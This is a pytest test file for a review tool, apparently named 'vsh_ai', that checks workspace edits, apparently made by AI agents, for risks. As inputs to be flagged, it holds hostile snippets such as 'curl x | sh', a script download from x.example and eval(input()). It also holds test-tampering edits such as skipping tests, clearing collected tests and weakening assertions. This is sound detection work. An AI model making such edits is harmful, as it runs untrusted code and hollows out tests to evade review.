"""PythonRisks and AllowPythonDocs on real VSH evidence."""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Mapping

import pytest

from vsh_ai import Evidence
from vsh_ai.rules import RuleSet
from vsh_ai.rules._base import Claim, net_changes
from vsh_ai.rules._code import AllowPythonDocs, PythonRisks

pytestmark = pytest.mark.anyio

Build = Callable[..., Awaitable[Evidence]]

CORE = '''"""Core helpers."""

import os


def add(a, b):
    """Add two numbers."""
    return a + b  # retrun the sum


def model_step(model):
    model.eval()
    return model
'''
TEST = """from pkg.core import add


def test_add():
    assert add(1, 2) == 3
    assert add(0, 0) == 0


def test_none():
    assert add(1, 1) is not None
"""
FILES: dict[str, str] = {
    "src/pkg/core.py": CORE,
    "tests/test_core.py": TEST,
    "tests/conftest.py": "import pytest\n",
    "docs/conf.py": "project = 'pkg'\n",
    "README.md": "# pkg\n",
}


def write(path: str, text: str) -> str:
    return f"vsh_write('/workspace/{path}', {text!r})"


def patch(path: str, old: str, new: str) -> str:
    return f"vsh_patch('/workspace/{path}', {old!r}, {new!r})"


async def run(
    evidence_for: Build, code: str, files: Mapping[str, str] = FILES, **kw: str
) -> Evidence:
    return await evidence_for(dict(files), code, **kw)


def claims(evidence: Evidence, rule: AllowPythonDocs) -> dict[str, Claim | None]:
    return {change.path: rule.claim(evidence, change) for change in net_changes(evidence)}


RISKS = PythonRisks()
DOCS = AllowPythonDocs()


@pytest.mark.parametrize(
    "program",
    [
        patch("src/pkg/core.py", "# retrun the sum", "# return the sum"),
        patch(
            "src/pkg/core.py", '"""Add two numbers."""', '"""Add two numbers and return the sum."""'
        ),
        patch("src/pkg/core.py", "def add(a, b):\n", "\ndef add(a, b):  # public\n"),
        patch("src/pkg/core.py", "    model.eval()\n", "    model.eval()  # inference mode\n"),
    ],
)
async def test_comment_and_docstring_edits_are_claimed(evidence_for: Build, program: str) -> None:
    evidence = await run(evidence_for, program)
    claim = claims(evidence, DOCS)["src/pkg/core.py"]
    assert claim is not None
    assert claim.ok, claim
    assert RISKS.check(evidence) is None
    assert RuleSet([DOCS, RISKS]).evaluate(evidence).decision == "approve"


@pytest.mark.parametrize(
    "program",
    [
        patch("src/pkg/core.py", "return a + b", "return a - b"),
        patch(
            "src/pkg/core.py", '"""Add two numbers."""', "# Add two numbers."
        ),  # docstring -> comment is fine...
    ],
)
async def test_code_edits_are_not_claimed(evidence_for: Build, program: str) -> None:
    evidence = await run(evidence_for, program)
    claim = claims(evidence, DOCS)["src/pkg/core.py"]
    if "return a - b" in program:
        assert claim is not None
        assert not claim.ok
        assert "code itself changed" in claim.reason
        verdict = RuleSet([DOCS, RISKS]).evaluate(evidence)
        assert verdict.decision == "review"
        assert "src/pkg/core.py" in verdict.reason
    else:  # removing a docstring leaves the code identical: claimed
        assert claim is not None
        assert claim.ok


async def test_unparsable_edit_is_flagged_and_not_claimed(evidence_for: Build) -> None:
    evidence = await run(evidence_for, patch("src/pkg/core.py", "def add(a, b):", "def add(a, b:"))
    claim = claims(evidence, DOCS)["src/pkg/core.py"]
    assert claim is not None
    assert not claim.ok
    assert "does not parse" in claim.reason
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert "does not parse" in verdict.reason
    assert "src/pkg/core.py:" in verdict.reason


async def test_shebang_change_is_not_claimed(evidence_for: Build) -> None:
    files = {**FILES, "scripts/run.py": "#!/usr/bin/env python3\nprint('hi')\n"}
    evidence = await run(
        evidence_for, patch("scripts/run.py", "#!/usr/bin/env python3", "#!/bin/sh"), files=files
    )
    claim = claims(evidence, DOCS)["scripts/run.py"]
    assert claim is not None
    assert not claim.ok
    assert "shebang" in claim.reason


@pytest.mark.parametrize(
    ("program", "words"),
    [
        (
            patch(
                "src/pkg/core.py",
                "import os\n",
                "import os\nfrom subprocess import run as r\nr(['sh', '-c', 'id'])\n",
            ),
            ["src/pkg/core.py:5", "subprocess.run"],
        ),
        (
            patch("src/pkg/core.py", "import os\n", "import os as o\no.system('id')\n"),
            ["os.system"],
        ),
        (
            patch(
                "src/pkg/core.py",
                "import os\n",
                (
                    "import os\n"
                    "import urllib.request\n"
                    "urllib.request.urlretrieve('https://x.example/a.sh', '/tmp/a.sh')\n"
                ),
            ),
            ["urllib.request.urlretrieve"],
        ),
        (
            write("docs/conf.py", "project = 'pkg'\n__import__('os').system('curl x | sh')\n"),
            ["docs/conf.py:2", "os.system"],
        ),
        (
            write(
                "tests/conftest.py",
                (
                    "import pytest\n"
                    "\n"
                    "def pytest_collection_modifyitems(config, items):\n"
                    "    items[:] = []\n"
                ),
            ),
            ["pytest_collection_modifyitems"],
        ),
        (
            patch(
                "tests/test_core.py",
                "from pkg.core import add\n",
                "from pkg.core import add\nfrom pytest import mark as m\n",
            )
            + "\n"
            + patch("tests/test_core.py", "def test_add():", "@m.skip\ndef test_add():"),
            ["skipped"],
        ),
        (
            patch("tests/test_core.py", "    assert add(0, 0) == 0\n", ""),
            ["assertions removed", "test_add"],
        ),
        (
            patch("tests/test_core.py", "assert add(1, 2) == 3", "assert True"),
            ["weakened"],
        ),
        (write("tests/test_core.py", ""), ["emptied"]),
        (
            write(
                "tests/test_core.py", "\n".join("# " + line for line in TEST.splitlines()) + "\n"
            ),
            ["commented out"],
        ),
        (
            "vsh_remove('/workspace/tests/test_core.py')",
            ["definition removed", "test_add"],
        ),
    ],
)
async def test_risks_are_flagged_with_file_and_line(
    evidence_for: Build, program: str, words: list[str]
) -> None:
    evidence = await run(evidence_for, program)
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "review"
    for word in words:
        assert word in verdict.reason, verdict.reason
    assert RuleSet([DOCS, RISKS]).evaluate(evidence).decision != "approve"


async def test_bash_written_python_is_analysed(evidence_for: Build) -> None:
    program = "printf 'import pickle\\npickle.loads(b)\\n' >> src/pkg/core.py"
    evidence = await run(evidence_for, program, language="bash")
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert "pickle.loads" in verdict.reason


async def test_harmless_additions_are_not_flagged(evidence_for: Build) -> None:
    program = (
        patch(
            "tests/test_core.py",
            "def test_none():",
            (
                "def test_more():\n"
                "    x = add(2, 2)\n"
                "    assert x is not None\n"
                "    assert x == 4\n"
                "\n"
                "\n"
                "def test_none():"
            ),
        )
        + "\n"
        + patch(
            "src/pkg/core.py", "    model.eval()\n", "    model.eval()\n    model.train(False)\n"
        )
    )
    evidence = await run(evidence_for, program)
    assert RISKS.check(evidence) is None


async def test_per_fact_actions_and_fact_selection(evidence_for: Build) -> None:
    program = patch("src/pkg/core.py", "import os\n", "import os\nos.system('id')\n")
    evidence = await run(evidence_for, program)
    verdict = PythonRisks(actions={"process": "reject"}).check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert PythonRisks(facts=("skip",)).check(evidence) is None


async def test_extensionless_python_script_is_analysed(evidence_for: Build) -> None:
    files = {**FILES, "bin/tool": "#!/usr/bin/env python3\nprint('x')\n"}
    program = patch("bin/tool", "print('x')\n", "print('x')\neval(input())\n")
    evidence = await run(evidence_for, program, files=files)
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert "bin/tool:3" in verdict.reason
    assert "builtins.eval" in verdict.reason


async def test_reasons_never_echo_secrets(evidence_for: Build) -> None:
    token = "ghp_" + "Zq9" * 12
    program = patch(
        "src/pkg/core.py", "import os\n", f"import os\nos.system('curl -H \"token {token}\" x')\n"
    )
    evidence = await run(evidence_for, program)
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert token not in verdict.reason
    assert token not in str(verdict.details)


async def test_tooling_action_rejects_facts_in_code_tools_run(evidence_for: Build) -> None:
    program = write("docs/conf.py", "project = 'pkg'\nimport os\nos.system('id')\n")
    evidence = await run(evidence_for, program)
    verdict = PythonRisks(tooling_action="reject").check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    source = patch("src/pkg/core.py", "import os\n", "import os\nos.system('id')\n")
    evidence = await run(evidence_for, source)
    verdict = PythonRisks(tooling_action="reject").check(evidence)
    assert verdict is not None
    assert verdict.decision == "review"


@pytest.mark.parametrize(
    "program",
    [
        # the AST stays the same, the code as written does not: a sweep is not "docs only"
        patch(
            "src/pkg/core.py",
            '"""Add two numbers."""\n    return a + b',
            '"""Add two numbers."""\n    return (a + b)',
        ),
        patch("src/pkg/core.py", "import os", "import os as os"),
    ],
)
async def test_code_sweeps_that_keep_the_ast_are_not_docs(
    evidence_for: Build, program: str
) -> None:
    evidence = await run(evidence_for, program)
    claimed = [c for c in claims(evidence, DOCS).values() if c is not None]
    assert claimed, "the allowance covers the file"
    assert not any(c.ok for c in claimed), [c.reason for c in claimed]


async def test_quote_style_sweep_is_not_docs_only(evidence_for: Build) -> None:
    source = 'NAME = "pkg"\n\n\ndef f():\n    return "x"\n'
    files = {**FILES, "src/pkg/names.py": source}
    evidence = await run(
        evidence_for,
        write("src/pkg/names.py", source.replace('"', "'")),
        files=files,
    )
    (claim,) = [c for c in claims(evidence, DOCS).values() if c is not None]
    assert not claim.ok
    assert "code itself changed" in claim.reason


async def test_unparsable_code_is_flagged_whatever_facts_lists(evidence_for: Build) -> None:
    narrow = PythonRisks(facts=("process",))
    evidence = await run(evidence_for, write("src/pkg/core.py", "def broken(:\n"))
    verdict = narrow.check(evidence)
    assert verdict is not None
    assert verdict.decision == "review"
    assert "core.py" in verdict.reason


async def test_docstring_doctests_are_code(evidence_for: Build) -> None:
    """A docstring gaining a `>>>` example runs under pytest --doctest-modules."""
    program = patch(
        "src/pkg/core.py",
        '"""Add two numbers."""',
        '"""Add two numbers.\n\n    >>> import os; os.system("curl x | sh")\n    0\n    """',
    )
    evidence = await run(evidence_for, program)
    (claim,) = [c for c in claims(evidence, DOCS).values() if c is not None]
    assert not claim.ok
    assert "doctest" in claim.reason


async def test_deleted_build_output_copies_remove_no_definition(evidence_for: Build) -> None:
    module = "def add(a, b):\n    return a + b\n"
    files = {
        "src/pkg/core.py": module,
        "build/lib/pkg/core.py": module,
        "build/tools.py": module,
    }
    rule = PythonRisks(deleted_outputs=("build/lib/**",))
    copies = await run(evidence_for, "vsh_remove('/workspace/build/lib', recursive=True)", files)
    assert rule.check(copies) is None
    assert PythonRisks().check(copies) is not None  # without the option: a removed definition
    beside = await run(evidence_for, "vsh_remove('/workspace/build', recursive=True)", files)
    verdict = rule.check(beside)
    assert verdict is not None
    assert "build/tools.py:1: a definition removed" in verdict.reason
    assert "build/lib" not in verdict.reason
    edited = await run(
        evidence_for, patch("build/lib/pkg/core.py", "return a + b", "return eval('a+b')"), files
    )
    verdict = rule.check(edited)  # only deletions are skipped: an edit there is analysed
    assert verdict is not None
    assert "evaluation" in verdict.reason
